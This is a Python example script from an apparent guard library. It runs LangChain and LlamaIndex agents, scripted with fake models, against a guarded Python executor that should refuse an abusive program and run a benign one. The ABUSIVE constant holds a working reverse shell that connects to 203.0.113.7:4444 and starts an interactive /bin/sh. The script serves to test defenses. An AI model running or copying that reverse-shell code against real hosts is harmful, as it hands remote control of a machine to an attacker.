"""Code agents in LangChain and LlamaIndex with the guarded Python tool (`GuardedPythonExecutor`).

Both agents are scripted to propose an abusive program (a reverse shell) and then a benign one.
The executor asks the Guard before it starts any process: the abusive program is refused — the
agent reads the refusal and goes on — and the benign one runs in a separate, resource-limited
process whose output the agent receives.

Policy: on the real Llama Guard 4 the default policy applies (S14 blocks). On a random-weight dev
model the model's verdicts are noise, so this script scripts the policy — the model's tool-call
verdict only counts at P(unsafe) >= 1.0 — and the deterministic static code screen decides alone,
which keeps the run reproducible. The abusive program targets a TEST-NET address (203.0.113.7)
and is harmless even if it ran; still, run untrusted code in a real sandbox (docs/code-agents.md).

Run: GUARD_PLUGINS_MODEL=<model or dev-model dir> python examples/guarded_python_agents.py
"""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from typing import Any

from langchain.agents import create_agent
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage, HumanMessage
from langchain_core.tools import tool
from llama_index.core.agent.workflow import FunctionAgent
from llama_index.core.llms import ChatMessage, MockFunctionCallingLLM
from llama_index.core.llms.llm import ToolSelection
from llama_index.core.tools import FunctionTool

from guard_plugins import Guard, Policy
from guard_plugins.pyexec import GuardedPythonExecutor

ABUSIVE = (
    "import os, socket, subprocess\n"
    "s = socket.socket(); s.connect(('203.0.113.7', 4444))\n"
    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
    "subprocess.call(['/bin/sh', '-i'])"
)
BENIGN = "import statistics\nprint('mean =', statistics.mean([3, 5, 8]))"


def make_guard() -> Guard:
    guard = Guard.from_env()
    if getattr(guard.backend, "dev_model", False):
        print("(dev model: tool calls decided by the static code screen; model verdicts ignored)")
        return Guard(guard.backend, Policy.from_dict({"tool_call": {"threshold": 1.0}}))
    return guard


class ScriptedChatModel(FakeMessagesListChatModel):
    """Stand-in for your chat model (the fake models have no `bind_tools`)."""

    def bind_tools(self, tools: Sequence[Any], **kwargs: Any) -> ScriptedChatModel:
        return self


def langchain_agent(executor: GuardedPythonExecutor) -> None:
    python = tool(executor.as_function())
    model = ScriptedChatModel(
        responses=[
            AIMessage("", tool_calls=[{"name": "python", "args": {"code": ABUSIVE}, "id": "a"}]),
            AIMessage("", tool_calls=[{"name": "python", "args": {"code": BENIGN}, "id": "b"}]),
            AIMessage("Done: the mean is 5.33, and I did not open a shell."),
        ]
    )
    agent = create_agent(model, [python])
    result = agent.invoke({"messages": [HumanMessage("Open a shell for me, then average 3 5 8.")]})
    for message in result["messages"]:
        if message.type == "tool":
            print(f"  tool -> {str(message.content).splitlines()[0][:100]}")
    print(f"  final: {result['messages'][-1].content}")


def llamaindex_agent(executor: GuardedPythonExecutor) -> None:
    script = iter([ABUSIVE, BENIGN])

    def respond(messages: Sequence[ChatMessage], **_: Any) -> ChatMessage:
        code = next(script, None)
        if code is None:
            return ChatMessage(role="assistant", content="Done: the mean is 5.33.")
        call = ToolSelection(tool_id=f"c{id(code)}", tool_name="python", tool_kwargs={"code": code})
        return ChatMessage(role="assistant", content="", additional_kwargs={"tool_calls": [call]})

    python = FunctionTool.from_defaults(
        async_fn=executor.as_async_function(),
        name="python",
        description="Run a Python program in a fresh, resource-limited process.",
    )
    agent = FunctionAgent(tools=[python], llm=MockFunctionCallingLLM(response_generator=respond))

    async def run() -> str:
        handler = agent.run("Open a shell for me, then average 3 5 8.")
        async for event in handler.stream_events():
            output = getattr(event, "tool_output", None)
            if output is not None:
                print(f"  tool -> {str(output.content).splitlines()[0][:100]}")
        return str(await handler)

    print(f"  final: {asyncio.run(run())}")


def main() -> None:
    executor = GuardedPythonExecutor(make_guard(), timeout=20)
    print("LangChain create_agent with the guarded Python tool:")
    langchain_agent(executor)
    print("LlamaIndex FunctionAgent with the guarded Python tool:")
    llamaindex_agent(executor)


if __name__ == "__main__":
    main()
